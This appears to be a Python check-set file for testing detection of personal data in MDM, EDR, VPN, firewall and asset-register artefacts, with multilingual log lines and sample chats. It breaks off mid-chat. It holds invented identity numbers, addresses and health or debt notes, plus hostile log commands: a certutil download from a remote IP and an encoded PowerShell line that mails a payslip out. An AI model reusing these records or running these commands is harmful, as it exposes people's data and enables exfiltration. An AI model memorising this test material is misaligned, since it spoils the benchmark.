# ruff: noqa: RUF001, RUF002, RUF003
"""Blind check set evade163: personal data in device-management and endpoint-security artefacts (MDM enrolment records, EDR alerts, VPN connection logs, firewall user-ID logs, lost-device wipe requests, asset registers). All names and values are invented.

Written blind on 2026-12-08; first measured by the lead with
python -P -m residency.corpus.handwritten --blind-evade163
"""

from __future__ import annotations


def _lines(block: str) -> list[str]:
    return [line.strip() for line in block.strip().splitlines() if line.strip()]


CLEAN: dict[tuple[str, str], list[str]] = {
    ("en", "edr_alert_log"): _lines("""
        2026-11-03T02:14:55+08:00 sev=HIGH host=SGP-KIOSK-LOBBY-03 user=SYSTEM image=rundll32.exe parent=svchost.exe mitre=T1218.011 action=blocked
        [CrowdStrike] Detection 4471902 | Host: KUL-POS-TILL-12 | Account: svc_pos_sync | Tactic: Credential Access | Technique: OS Credential Dumping | Status: Quarantined
        alert_id=edr-9c41e2 rule=Encoded-PowerShell host=SZX-BLD-PRN-02 cmd=powershell -NoP -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAUwBwAG8AbwBsAGUAcgAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQA= verdict=benign_admin
        SentinelOne threat 1822390447 on HKG-MR-ZHENGHE-TV (meeting room display) - Trojan.GenericKD quarantined from /Users/Shared/Installer/FlashPlayer.dmg, no user session
        Defender for Endpoint incident 33018 auto-resolved: device TPE-LAB-WS-047 (shared lab PC), logged-on account labuser-shared, hash 5d41402abc4b2a76b9719d911017c592 clean after sandbox
        EDR correlation: 14 hosts in OU=Retail-Outlets beaconed to 185.220.101.47:443 between 03:10 and 03:25 SGT; IOC list TI-2026-118 updated, no interactive accounts involved
        sev=MED host=MFM-COTAI-SIGN-09 proc=node.exe path=/opt/signage/app/server.js net_conn=203.0.113.25:8080 signer=unsigned policy=Digital-Signage-Allowlist v3.2 result=allowed
        Process tree: explorer.exe > WINWORD.EXE > cmd.exe /c certutil -urlcache -f http://198.51.100.7/a.txt ; host=PEN-TRAINING-VM01 (red-team range) tag=exercise-2026Q4
        Alert suppressed: Mimikatz-like LSASS access from Tanium Client 7.6.2.1118 on 312 endpoints - vendor KB-000411 confirms false positive, suppression expires 2026-12-31
        Quarantine release QR-20261107-008 approved by SOC L2 on-call; object invoice_template_Q4.xlsm (sha1 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12) restored to share Finance-AP
        {"ts":"2026-11-08T11:42:07Z","sensor":"edr-agent/5.4.1","host":"CAN-WH-SCANNER-21","user":"scanner_svc","event":"usb_block","vid":"0781","pid":"5581","desc":"SanDisk Ultra"}
        Weekly EDR KPI - mean time to contain 38 min (target 60), 97.4% agents healthy, 21 stale sensors at the Johor Bahru branch, top detection family AgentTesla (19 hits)
        IOC match: domain login-microsoftonline[.]co flagged by Trend Vision One on gateway SIN-EDGE-FW01; 0 clicks recorded, sample forwarded by the phishing@contoso.com.sg shared mailbox
    """),
    ("en", "mdm_config_snippets"): _lines("""
        <key>PayloadDisplayName</key><string>Corp Wi-Fi (EAP-TLS)</string><key>UserName</key><string>$EMAIL</string> <!-- Jamf substitutes the enrolled address -->
        assignmentFilter Kiosk-Devices: (device.deviceName -startsWith KSK-) and (device.enrollmentProfileName -eq SG-Kiosk-Userless)
        scep: subject: CN={{DeviceId}},OU=Managed,O=Contoso Pte Ltd,C=SG  san_upn: {{UserPrincipalName}}  validity_days: 365  key_size: 2048
        # example only, replace before deploy: test_user = alice@example.com ; peer = bob@example.org  (RFC 2606 placeholders from the tutorial)
        defaults write /Library/Preferences/com.apple.loginwindow LoginwindowText -string 'Property of Contoso Ltd. If found call +65 6123 4567 (IT Service Desk, 24x7)'
        Compliance policy MY-Std-Android-v4: minOsVersion=13, requireEncryption=true, passcodeMinLength=6, rootedBlocked=true, actionAfter=3d markNoncompliant, 7d retire
        curl -s -H 'Authorization: Basic c3ZjLWJhY2t1cDpFeGFtcGxlUGFzc3cwcmQ=' https://contoso.jamfcloud.com/JSSResource/computers/serialnumber/C02XK1ZZJG5H/subset/General
        wipe_request: {device_serial: F9FZQ2XYN72J, reason: lost, preserve_esim: true, requested_via: ServiceNow RITM0048812, approver_group: EUC-Approvers, owner_type: corporate-userless}
        Autopilot CSV header: Device Serial Number,Windows Product ID,Hardware Hash,Group Tag,Assigned User  (leave Assigned User empty for shared kiosks)
        GlobalProtect portal config: <portal>vpn.contoso.com.my</portal> <connect-method>user-logon</connect-method> <username-format>{user}@contoso.com.my</username-format>
        kiosk token (decoded claims sub=kiosk-lobby-03): eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJraW9zay1sb2JieS0wMyIsImF1ZCI6Im1kbS5jb250b3NvLmNvbSIsInJvbGUiOiJEZXZpY2VPbmx5In0.sig
        ldap_filter: (&(objectClass=computer)(department=Treasury)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))  base_dn: OU=Workstations,DC=corp,DC=contoso,DC=hk
        Managed app config for Outlook: com.microsoft.outlook.EmailProfile.EmailAddress = {{mail}}, AccountType = ModernAuth, ServerHostname = outlook.office365.com
    """),
    ("zh-Hans", "mdm_enrolment_notice"): _lines("""
        【IT通知】即日起所有访问企业邮箱的手机须在公司MDM平台完成注册，截止日期2026年12月20日，逾期未注册的设备将无法同步邮件和日历。
        注册步骤：打开“公司门户”App → 使用工号登录 → 同意设备管理条款 → 安装工作配置文件 → 等待状态变为“合规”，全程约5分钟。
        IT服务台热线 0755-8666 2300（工作日 8:30-18:00），邮箱 itdesk@lanan-tech.cn，地址：深圳市南山区科苑路15号科兴科学园A座6楼。
        隐私说明：公司仅能查看设备型号、系统版本、序列号及公司应用清单，无法读取个人照片、短信、通话记录、定位轨迹及个人应用中的数据。
        支持的系统版本：iOS 16.0及以上、Android 12及以上（鸿蒙4.0设备需使用工作空间模式），低于该版本的设备请先升级系统再注册。
        常见问题：注册时提示“证书安装失败”，请检查手机日期时间是否为自动获取，并确认当前未连接访客Wi-Fi“LANAN-Guest”。
        深圳市蓝岸科技有限公司统一社会信用代码 91440300MA5G3X2K7P，MDM服务由第三方供应商托管，数据存储于阿里云华南1（深圳）地域。
        离职设备归还流程：HR系统发起离职工单后，IT将在最后工作日18:00执行“企业数据擦除”，个人照片、聊天记录等不受影响。
        培训安排：12月3日14:00在3号楼鲁迅会议室举行MDM注册答疑会，各部门可派1至2名代表参加，会后提供操作手册PDF。
        版本更新：公司门户 v5.2.1 已上架各大应用商店，修复了部分小米及OPPO机型无法接收推送通知的问题，请于本周内完成更新。
        注意：请勿将公司管理的手机借给他人使用，如设备丢失请在2小时内拨打 400-820-6688 报失，IT将远程锁定设备并冻结公司账号。
        合规检查规则：未设置锁屏密码、已越狱或已Root、系统版本过低、超过30天未同步，任一条件命中即标记为“不合规”并限制访问。
        本通知依据《中华人民共和国个人信息保护法》及公司《终端设备管理办法》（2025年修订版）第十二条制定，解释权归信息技术部。
    """),
    ("zh-Hans", "firewall_user_id_log"): _lines("""
        2026-11-05 09:12:33 FW-SZ-01 USERID login user=huiyishi-3f@corp.lanan.cn ip=10.20.3.51 source=GlobalProtect timeout=2700s 备注=3楼会议室共用终端
        TRAFFIC,allow,src=10.20.8.14,user=caiwu-gongyong@corp.lanan.cn,dst=101.226.4.6:443,app=wechat-base,rule=办公区-出站,bytes=48213
        2026-11-05 10:03:11 策略命中：禁止访问网盘类应用，用户组“研发一部”，源IP 10.20.12.0/24，应用 baidu-netdisk，动作 deny，命中 127 次
        用户识别映射表同步完成：AD域控 DC01.corp.lanan.cn 共下发 1,284 条 IP-用户映射，耗时 3.2 秒，失败 0 条，下次同步 10:30
        THREAT,sev=critical,src=10.20.40.7,user=svc-jenkins,dst=45.148.10.12,threat=Cobalt Strike Beacon(86559),action=reset-both,zone=研发服务器区
        日志摘要：11月第1周访客Wi-Fi共认证 3,402 次，门户登录方式为短信验证码，短信通道为阿里云短信服务，签名“蓝岸科技”
        user=unknown ip=10.20.99.201 mac=3c:22:fb:1a:7e:90 dhcp_hostname=HP-LaserJet-M428 user_hex=7376632d7072696e74 vlan=打印机区 rule=IoT-白名单
        防火墙告警：用户组“外包-厂商”在非工作时间（02:00-05:00）发起SSH连接 36 次，目标 10.30.1.0/24，已由值班工程师确认为变更窗口
        2026-11-06 14:22:09 FW-BJ-02 SSL解密例外已生效：*.icbc.com.cn、*.ccb.com、*.95516.com（网银及支付类域名一律不解密）
        USERID logout user=kiosk-qiantai@corp.lanan.cn ip=10.20.1.30 reason=session-timeout duration=8h00m 设备=前台访客登记平板
        rule=研发-GitHub出站 app=github-base user_group=研发二部 hits_24h=9,812 p95_latency=142ms top_src=10.20.15.22（构建服务器 build-07）
        设备证书主题（Base64）Q0495Lya6K6u5a6kLTNGLeWxj+W5lSxPVT3lhbHkuqvorr7lpIcsTz3ok53lsrjnp5HmioA= 校验通过，映射到用户组“共享设备”
        管理员操作审计：admin-noc 于 2026-11-07 16:40 修改地址对象“飞书-服务端”，新增 FQDN open.feishu.cn，变更单号 CHG-20261107-03
    """),
    ("zh-Hant", "lost_device_wipe_procedure"): _lines("""
        遺失公司手機處理程序：請即致電資訊科技服務台 +852 2345 6789（24 小時），或電郵 lostdevice@harbourview.com.hk，並提供資產編號。
        第一步：服務台核對資產編號及序號後，於 Intune 下達「遠端鎖定」；如 24 小時內仍未尋回，將執行「完整抹除」並停用公司帳號權杖。
        員工自攜裝置（BYOD）只會執行「選擇性抹除」，僅移除公司郵件、Teams 及 OneDrive 資料，不會刪除個人相片及通訊軟體訊息。
        如裝置於台灣遺失，請同時向當地警察局報案並索取「遺失物報案三聯單」；台北辦公室地址：台北市信義區松仁路100號12樓（IT 櫃台）。
        抹除完成後請於 7 個工作天內到 IT 櫃台（香港九龍灣宏照道33號國際交易中心18樓）領取備用機，須出示員工證正本及部門主管簽核。
        常見問題：「抹除指令已送出但狀態顯示待處理」代表裝置目前離線，指令會在裝置下次連線時執行，系統最長保留該指令 30 日。
        遺失裝置申報表欄位：資產編號、裝置型號、序號/IMEI、遺失日期時間、遺失地點、是否已報警、報案編號、申請人所屬部門及成本中心。
        2026 年第三季共受理遺失裝置 41 宗，其中 29 宗於 48 小時內尋回，12 宗執行完整抹除，經調查均無資料外洩事件。
        依《個人資料（私隱）條例》保障資料第 4 原則，遺失載有客戶資料的裝置，部門須於 24 小時內以書面通知公司私隱事務主任。
        Apple 啟用鎖須於抹除前由 Apple 商務管理（ABM）取得略過代碼，否則回收機無法重新配置；操作說明見 Confluence 頁面 IT-ABM-003。
        澳門分公司同事請致電 +853 2871 2000 或前往新馬路大豐銀行大廈 9 樓 IT 室辦理，辦公時間為星期一至五 09:00-18:00。
        抹除指令範例（僅限測試機）：POST /deviceManagement/managedDevices/00000000-0000-0000-0000-000000000000/wipe {"keepUserData": false}
        提醒：切勿自行在「尋找」App 內抹除公司裝置，否則 MDM 將失去管理權，須送回原廠重設，費用約 HK$850，由所屬部門承擔。
    """),
    ("zh-Hant", "vpn_connection_log"): _lines("""
        2026-11-04 08:31:22 HKG-VPN01 連線建立 帳號=shared-meetingroom-a 群組=會議室裝置 外部IP=203.0.113.44 分配IP=172.16.8.21 協定=IKEv2
        FortiGate VPN 事件：tunnel-up，使用者群組「門市POS」，裝置憑證 CN=POS-TW-TPE-0112，加密 AES256-SHA256，連線時段 09:00-21:30
        連線失敗 原因=憑證過期 憑證序號=4F:2A:91:0C:77:3E 發行者=Harbourview Issuing CA 02 到期日=2026-10-31 影響裝置=倉庫掃描槍 18 台
        每日 VPN 報表：尖峰同時連線 1,126 個工作階段（10:15），平均延遲 38ms，香港出口頻寬使用率 72%，台北出口 55%，澳門出口 31%
        AnyConnect 設定檔 profile.xml：<HostName>香港總部</HostName><HostAddress>vpn-hk.harbourview.com.hk</HostAddress><UserGroup>員工</UserGroup>
        異常登入偵測：服務帳號 svc-backup-nas 於 03:12 從 198.51.100.83（荷蘭）嘗試登入 5 次失敗，系統已自動封鎖該 IP 24 小時
        Split tunnel 清單：*.harbourview.com.hk、10.0.0.0/8、172.16.0.0/12 經通道；Netflix、YouTube、Spotify 流量直接走本地網路
        2026-11-04 12:00:05 tunnel-down 帳號=kiosk-lobby-tw 原因=閒置逾時(1800s) 上傳 2.1MB 下載 14.8MB 裝置=台北大廳訪客登記機
        MFA 推播統計：11 月共發出 48,221 次推播，核准率 96.8%，拒絕 1.1%，逾時 2.1%，疑似 MFA 轟炸事件 0 宗，較上月持平
        RADIUS Access-Reject：NAS-IP 10.1.1.5，Calling-Station-Id 00-1B-63-84-45-E6，原因「裝置未註冊 MDM」，套用政策 VPN-需合規裝置
        維護公告：11 月 16 日（日）01:00-03:00 升級 VPN 閘道韌體至 FortiOS 7.4.5，期間澳門及台中據點將暫時無法遠端連線
        憑證主體（Base64）Q049UE9TLVRXLVRQRS0wMTEyLE89SGFyYm91cnZpZXcgUmV0YWls 驗證成功，對應門市 POS 群組，非個人帳號
        連線記錄保存期限：依公司政策保存 180 日，逾期自動刪除；稽核調閱須經資訊安全委員會核准（表單 ISC-07）後方可匯出
    """),
    ("ms", "daftar_aset_csv"): _lines("""
        no_aset,jenis,jenama,model,no_siri,lokasi,pemegang,status_mdm,status,tarikh_beli
        KJ-IT-2024-0117,Komputer riba,Lenovo,ThinkPad T14 Gen 4,PF4QX2K9,Aras 5 Menara Citibank KL,Jabatan Kewangan (kongsi),Patuh,Aktif,2024-03-12
        KJ-IT-2021-0033,Telefon pintar,Apple,iPhone 12,F17DKQ9XN72J,Stor IT Cyberjaya,Tiada (simpanan),Dihapus,Dilupus,2021-02-18
        KJ-IT-2025-0210,Pencetak,HP,LaserJet Pro M404dn,VNB3K12345,Bilik Mesyuarat Tun Razak Aras 3,Unit Pentadbiran,-,Aktif,2025-01-07
        # Nota: lajur pemegang hanya boleh diisi nama jabatan atau bilik; nama kakitangan disimpan dalam sistem HR, bukan dalam fail ini
        KJ-IT-2022-0456,Kiosk,Elo,I-Series 4 22in,E723451,Lobi Utama Menara KLCC,Kaunter Pelawat,Tidak patuh,Rosak - tunggu alat ganti,2022-06-30
        Ringkasan audit aset S3 2026: 1,842 unit direkod, 1,790 disahkan secara fizikal, 37 belum dijumpai, 15 dilupuskan mengikut pekeliling perbendaharaan
        KJ-NET-2020-0009,Firewall,Fortinet,FortiGate 100F,FG100FTK20001234,Bilik Server Aras B1 Johor Bahru,Unit Rangkaian,-,Aktif,2020-11-23
        Kod lokasi: KL01=Ibu Pejabat Jalan Sultan Ismail, PG02=Cawangan Bayan Lepas, JB03=Cawangan Iskandar Puteri, KK04=Cawangan Kota Kinabalu
        KJ-IT-2026-0001,Komputer meja,Dell,OptiPlex 7020,8HXK2Z3,Makmal Latihan Bilik P. Ramlee,Kegunaan bersama,Patuh,Aktif,2026-01-05
        Status MDM diselaraskan: 1,204 peranti Patuh, 63 Tidak patuh (OS lapuk), 11 Belum daftar; senarai penuh dalam laporan ASET-MDM-2026-11.xlsx
        KJ-IT-2025-0388,Tablet,Apple,iPad 10th Gen,DMPXQ81LK2,UGVyYW50aSBLb25nc2k7QmlsaWsgTWVzeXVhcmF0IFR1biBSYXphaw==,Kongsi,Patuh,Aktif,2025-05-19
        Borang pelupusan BP-2026-014: 22 unit komputer riba tahun 2019, data dihapus mengikut NIST SP 800-88 oleh EcoKitar Sdn Bhd (No. Syarikat 201501012345)
    """),
    ("mixed", "it_team_group_chat"): _lines("""
        [09:02] IT-Ops: Morning all, MDM sync 今早 08:00 开始 lag，Intune service health 显示 advisory IT812345，Microsoft 说 ETA 11am
        [09:05] Desk-2: 收到，walk-in 已经有 6 个同事的 device 显示 non-compliant，我先叫他们 restart 再 sync，ok?
        [09:11] SOC on-call: EDR 报 KUL-POS-TILL-12 有 credential dumping，已 isolate，POS vendor 说是 their diagnostic tool, tunggu confirmation
        [09:20] Network: Firewall user-ID mapping drop 了，DC02 agent service stopped，我已 restart，mapping count 回到 1,280 左右
        [10:15] Procurement: PO-2026-3381 untuk 40 unit iPhone 16e sudah approved, Apple ABM 会 auto-assign 到 MDM, ETA Jumaat ni
        [10:32] IT-Ops: reminder lost-device SOP v3.1 已更新到 Confluence，wipe 之前一定要 check ABM activation lock bypass code 啊
        [11:05] Desk-1: Lobby kiosk KSK-07 又 hang 了，screen 显示 Guided Access error，我过去 reboot 一下，10 min back
        [11:40] SOC on-call: Phishing sample dari phishing@contoso.com.sg mailbox, domain login-micros0ft[.]co, sudah block di proxy dan FW
        [12:30] Network: 今晚 23:00-01:00 change window CHG-20261112-02 升级 GlobalProtect 到 6.2.4，VPN 会断 5 分钟，请通知 night shift
        [14:02] Desk-2: 阿里云短信 quota 剩 3,200 条，guest Wi-Fi OTP 用得很快，要不要 top up 5,000 条？我去问 finance 拿 budget code
        [15:18] IT-Ops: Audit team minta asset register export，列要有 serial、model、location、status，不要放 user name 哦，PDPA
        [16:45] Procurement: Dell quote Q-88123 OptiPlex 7020 x25 @ RM3,450 each, delivery 3 minggu, warranty 3 years ProSupport
        [17:30] IT-Ops: ok today summary: 2 P2 incidents closed, 14 devices enrolled, 1 wipe (company-owned, lost in Grab), 明天继续 follow up
    """),
}

PERSONAL: dict[str, list[str]] = {
    "en": _lines("""
        MDM enrolment record: device name Darren's iPhone 15 Pro, serial G7XK21PQN3, UDID 00008120-001A2C3E0E47801E, user darren.koh.wj@gmail.com, enrolled 2026-10-14 via BYOD
        EDR file event host=LAPTOP-SIEWLING user=lim.siewling path=/Users/lim.siewling/Downloads/IVF_Clinic_Invoice_Oct.pdf action=file_write sev=info
        VPN log 2026-11-02 23:47:10 user=rajesh.pillai src=116.87.142.19 (StarHub residential, Tampines St 81) assigned=172.16.4.88 duration=05:12:44
        Lost-device wipe request: requester Nurul Huda binti Abdullah, phone 012-338 7419, Samsung A54 IMEI 356789104521837, last located at No. 27, Jalan SS 2/64, Petaling Jaya
        EDR cmdline host=HKG-FIN-WS-031 powershell -enc UwBlAG4AZAAtAE0AYQBpAGwATQBlAHMAcwBhAGcAZQAgAC0AVABvACAAagB0AGUAbwA4ADgAQABnAG0AYQBpAGwALgBjAG8AbQAgAC0AQQB0AHQAIABwAGEAeQBzAGwAaQBwAF8ASgBhAHMAbwBuAFQAZQBvAC4AcABkAGYA
        asset_register.csv: ASSET-SG-00417,MacBook Air M3,C02ZK8LMQ6L4,Assigned,Goh Pei Shan,S8812345Z,+65 9123 4870,Blk 208 Bishan St 23 #11-154
        Proxy captured header Authorization: Basic bWVsaXNzYS53b25nOkp1bjNidWchMTk5MA== from host SGP-MKT-LT-044 to an unapproved file-sharing site
        id_token seen in SSL inspection: eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoiQ2hldW5nIEhvaSBZYW4iLCJlbWFpbCI6ImhvaXlhbi5jaGV1bmdAb3V0bG9vay5jb20iLCJ1cG4iOiJoeWNoZXVuZ0BoYXJib3Vydmlldy5jb20uaGsifQ.sig
        User-ID note: ahmad.faizal.rosli on extended medical leave (chemotherapy), disable VPN token until he returns on 15 Dec per HR ticket HR-5521
        Wipe confirmation SMS queued to +65 9734 2186 for device serial DMPXK2L9Q1GC
        AD sync error: CN=Chua Boon Heng,OU=Terminated-Misconduct,OU=Disabled Users,DC=corp,DC=sg - mailbox on litigation hold until case MC-2026-114 closes
        DLP hit: user kelvin.ong uploaded Kelvin_Ong_Offer_Letter_S$9800_per_month.pdf to a personal Dropbox from SGP-LT-0092 at 18:22
    """),
    "zh-Hans": _lines("""
        MDM注册记录：设备名“周晓东的Mate60”，序列号 HWM60X2210457，绑定手机 139 2871 6604，实名身份证 440305199203152612，注册时间 2026-10-21
        EDR告警：主机 SZ-FIN-PC-082 用户 liuyanping 频繁访问网贷还款页 repay?loan=HT20260913，HR备注：该员工已多次被催收电话打到前台
        防火墙用户识别：10.20.7.33 → zhaomeiling@lanan.cn，近一周多次访问妇幼保健院产检预约页面及“孕期助手”App
        VPN登录失败 用户名字段（Base64）：6ZmI5bu65Y2OLDEzOTI2MDQ3NzE1 源IP 10.20.2.41 次数 6
        丢失设备远程擦除申请：申请人 黄丽娟（市场部），手机 186 2033 5791，iPhone 14 IMEI 353908112046752，家中被盗，地址：上海市浦东新区张杨路1500弄8号602室
        资产登记表：ZC-2025-0342,ThinkPad X1,PF2K8W91,领用人 孙浩然,工号 LN03317,家庭住址 杭州市西湖区文三路259号3幢1单元501
        用户ID映射：10.20.5.118 ↔ 15920873341（访客Wi-Fi短信认证）
        MDM备注：老李（李国栋）的手机因欠网贷被催收App远程锁过屏，已协助恢复出厂设置，此事勿外传
        EDR截图OCR结果：请假条 申请人：何静 原因：产检（孕28周） 日期：11月18日，来源主机 GZ-HR-LT-014
        fw_uid user_hex=e69e97e5bf97e5bcba src=10.20.9.14 mac=58:44:98:2c:0d:71 group=财务部 id_no=310115198807234027
    """),
    "zh-Hant": _lines("""
        遺失裝置抹除申請：申請人 陳嘉欣小姐，手提電話 9123 4568，HKID Y542107(A)，iPhone 15 序號 FQ7K2LXN4P，遺失地點港鐵觀塘站
        MDM 登錄紀錄：裝置名稱「阿傑的 iPad」，使用者 chieh.lin0721@gmail.com，身分證字號 A126087419，登錄時間 2026-10-30 21:14
        VPN 連線紀錄：帳號 hsu.yuting 自家中 IP 114.32.88.140（中華電信 HiNet，新北市板橋區）連線，備註：產假期間遠端處理帳務
        資產登記：HV-HK-0781,MacBook Pro 14,C02FX1Q2MD6T,保管人 梁志偉,住址 新界沙田第一城 32 座 15 樓 F 室
        LINE 通知已傳送至 0933-618-472：您的公司手機已遭遠端鎖定，請聯絡服務台
        EDR 告警說明：主機 TPE-SALES-LT-22（使用者 蔡明哲）多次連線至博弈網站，HR 表示其積欠同事款項約 NT$380,000，請協助保全證據
        防火牆使用者識別：10.1.5.66 = leong.kamwa@harbourview.com.mo（梁錦華），澳門居民身份證 5215837(4)，手機 6286 4150
        VPN 憑證 Subject（Base64）：Q0495ZCz5L2p54+KLEU9cGVpc2hhbi53dUB5YWhvby5jb20udHc= 狀態=已撤銷
        林太話部舊 iPhone 畀咗個仔用，仲有公司郵件，唔該幫手 selective wipe，佢屋企喺將軍澳唐明街 2 號新都城二期 5 座 28 樓 D
        DLP 攔截：檔名「鄭美玲_乳癌化療療程表.pdf」上傳至個人 Google Drive，主機 HKG-HR-WS-009，時間 2026-11-06 15:02
    """),
    "ms": _lines("""
        Permohonan hapus jauh peranti hilang: Encik Mohd Hafiz bin Ismail, No. KP 880412-14-5523, telefon 013-472 8861, iPhone 13 hilang di LRT Kelana Jaya
        Rekod pendaftaran MDM: nama peranti Telefon Kak Yah, pengguna norhayati.salleh@yahoo.com, IMEI 352099111234563, didaftar 2026-09-02
        Log VPN: pengguna siti.aminah.ar dari IP rumah 175.139.22.81 (TM Unifi, Taman Melawati) jam 02:14, catatan HR: sedang dalam proses perceraian, akses terhad
        Daftar aset: KJ-IT-2024-0388,Komputer riba,Dell Latitude 5440,7HQX2Z3,Pemegang: Lee Chong Keat,Alamat: 14 Lorong Bukit Jambul 3, 11900 Bayan Lepas
        Bayaran balik ganti rugi peranti ke akaun Maybank 514012883307, rujukan WIPE-2026-0091
        Amaran EDR: hos KUL-HR-LT-017 (pengguna Faridah) memuat naik fail Faridah_Surat_Doktor_Kemurungan.pdf ke WhatsApp Web
        ID pengguna firewall: 10.5.2.19 = azlan.hamid@corp.my, catatan: akaun dibekukan, pekerja ditahan polis 3 Nov atas tuduhan pecah amanah
        Pengepala X-User dalam log proksi (Base64): S2F2aXRoYSBhL3AgU3VicmFtYW5pYW07ODgwOTE1LTEwLTYwMjQ= hos KUL-FIN-LT-033
        Borang kehilangan: peranti tertinggal dalam kereta WVK 3382 di rumah pemohon, No. 8 Jalan Kenari 5, Bandar Puchong Jaya, pemohon Puan Loh Mei Fong
    """),
    "mixed": _lines("""
        [20:14] Desk-2: Ah Seng 的 phone 在 Grab 上 lost 了，他说 9688 2417 可以 call 回，wipe 先 hold 一下 ok?
        EDR alert: user chongwl (钟伟良) host=KUL-ENG-LT-05 一直上 pinjaman-segera.my/borrower/WL88213，Ah Long 网站，听说他欠 RM18k
        VPN log | user=tan.meiling@contoso.com.sg | src=49.245.31.7 (home, Punggol) | 备注: 在家 WFH 因为 chemo，HR approved until Jan
        MDM enrolment CSV row: F2LXK9Q1M0,黄志明 Wong Chi Ming,S7834521G,+65 8123 6640,BYOD,enrolled 2026-11-01
        Firewall UID: 10.20.3.77 → 小美 用公司 wifi login personal Gmail xiaomei.chan1996@gmail.com，DLP 报她 upload 了 身份证正反面照片
        Wipe ticket RITM0049120: requester Puan Zainab 说 phone 里有她孩子的 medical report (autism assessment)，selective wipe only please
        enroll callback GET /mdm/checkin?name=%E9%99%88%E5%AE%B6%E8%B1%AA&mobile=%2B85291234567&os=iOS18.1 200 OK
        Asset return: laptop HV-HK-0912 收回 from 离职员工 Kenny Lau (刘家伟)，原因 HR dismiss for misconduct，硬盘 image 先 keep 90 days
        Macau helpdesk: 陳先生 reported lost phone, mobile 6688 3021 已 remote lock，佢話部機入面有 BOCOM 網銀 app 同埋佢老婆嘅身份證相
    """),
}

CHATS: list[list[tuple[str, str]]] = [
    [
        (
            "system",
            "You are an IT service desk assistant for Contoso Pte Ltd in Singapore. Help staff write clear tickets.",
        ),
        (
            "user",
            "Can you draft a lost-device wipe request for me? Staff: Marcus Yeo Jun Hao, NRIC T0256718G, mobile 9472 6615. Lost his company iPhone 15 (IMEI 356112098473215) on the 190 bus last night.",
        ),
        (
            "assistant",
            "Subject: Lost device - remote lock and wipe request. Staff: Marcus Yeo Jun Hao (NRIC T0256718G), contact 9472 6615. Device: company iPhone 15, IMEI 356112098473215, lost on bus service 190 on the evening of the report. Request: immediate remote lock, full wipe after 24 hours if not recovered, and revoke the Outlook and Teams sessions.",
        ),
        ("user", "Thanks. Should I include his NRIC in the ticket?"),
        (
            "assistant",
            "Better not. Under the PDPA advisory guidelines the NRIC is not needed for a wipe; the employee ID and asset tag are enough. I would remove the NRIC line and keep only the name, asset tag and contact number.",
        ),
    ],
    [
        (
            "user",
            "帮我看一下这条防火墙日志是什么意思：2026-11-07 22:41:09 USERID login user=wangxiaojun@lanan.cn ip=10.20.6.58 dst=借贷宝 app=jiedaibao action=allow",
        ),
        (
            "assistant",
            "这是用户识别日志：防火墙把内网IP 10.20.6.58 映射到账号 wangxiaojun@lanan.cn，并记录该用户在 22:41 访问了借贷宝应用，策略为放行。",
        ),
        (
            "user",
            "王晓军最近欠了不少网贷，HR让我把他这个月所有访问记录导出来，他身份证是330106199502111730，可以直接按身份证查吗？",
        ),
        (
            "assistant",
            "防火墙日志里没有身份证字段，只能按账号或IP筛选。另外，导出员工个人借贷相关的访问记录涉及敏感个人信息，建议先确认有书面授权和明确的处理目的，再按最小必要原则导出。",
        ),
    ],
    [
        (
            "system",
            "你是港灣景集團的 IT 助理。當前用戶資料：張國輝，員工編號 HV20417，HKID K803215(7)，手提 6123 8804，住址 九龍城太子道西 211 號 3 樓 B 室。",
        ),
        ("user", "我部 MacBook 喺的士遺失咗，可唔可以幫我申請遠端抹除？"),
        (
            "assistant",
            "張先生，明白。我會以員工編號 HV20417 開立遺失裝置申請，先遠端鎖定，24 小時內未尋回便執行完整抹除。請確認聯絡電話仍然係 6123 8804。",
        ),
        ("user", "係呀，仲有記得唔好寄新機去我屋企，我自己去九龍灣拎。"),
    ],
    [
        (
            "user",
            "Tolong tulis nota untuk daftar aset: komputer riba Dell Latitude 7450 no. siri 9KXQ2Z4 diserahkan kepada Cik Nur Aisyah binti Rahman, No. KP 950622-10-5584, bermula 1 Disember.",
        ),
        (
            "assistant",
            "Nota daftar aset: Komputer riba Dell Latitude 7450 (no. siri 9KXQ2Z4) diserahkan kepada Cik Nur Aisyah binti Rahman, No. KP 950622-10-5584, berkuat kuasa 1 Disember 2026. Pemegang bertanggungjawab memastikan peranti didaftar dalam MDM dalam tempoh 3 hari bekerja.",
        ),
        ("user", "Perlu ke letak nombor KP dalam daftar aset?"),
        (
            "assistant",
            "Tidak perlu. Di bawah PDPA 2010 lebih baik gunakan nombor pekerja sahaja; nombor KP boleh dirujuk dalam sistem HR jika diperlukan.",
        ),
    ],
    [
        ("system", "You are a SOC triage assistant. Answer briefly."),
        (
            "user",
            "EDR flagged host KUL-SLS-LT-19, user is Alvin Tan Kok Leong, he keep going to online casino site during office hour. 他老婆上个礼拜打来公司说他欠 Ah Long 钱, got threat letter. Should we escalate?",
        ),
        (
            "assistant",
            "From a security view, escalate only the technical part: policy violation (gambling category) and any malware or credential exposure on KUL-SLS-LT-19. The debt and family matters are HR issues; pass them to HR through the proper channel and keep them out of the SOC ticket.",
        ),
    ],
    [
        (
            "user",
            "Found this in an EDR alert, what does it decode to? powershell -enc UwBlAG4AZAAtAE0AYQBpAGwATQBlAHMAcwBhAGcAZQAgAC0AVABvACAAagB0AGUAbwA4ADgAQABnAG0AYQBpAGwALgBjAG8AbQAgAC0AQQB0AHQAIABwAGEAeQBzAGwAaQBwAF8ASgBhAHMAbwBuAFQAZQBvAC4AcABkAGYA",
        ),
        (
            "assistant",
            "It is UTF-16LE Base64. Decoded: Send-MailMessage -To jteo88@gmail.com -Att payslip_JasonTeo.pdf. So the script mails a payslip file for Jason Teo to a personal Gmail address, which looks like data exfiltration of salary information.",
        ),
        ("user", "Ok so Jason is emailing his own payslip out? Or someone else's?"),
        (
            "assistant",
            "Check the logged-on user on the host and the file owner. If the sender is Jason Teo himself it may be a personal-use policy breach; if not, treat it as possible insider exfiltration and preserve the evidence.",
        ),
    ],
    [
        ("user", "我的华为手机注册公司MDM一直失败，提示证书错误。"),
        (
            "assistant",
            "请先确认手机日期时间为自动获取，并且没有连接访客Wi-Fi。然后删除旧的工作配置文件后重新注册。",
        ),
        (
            "user",
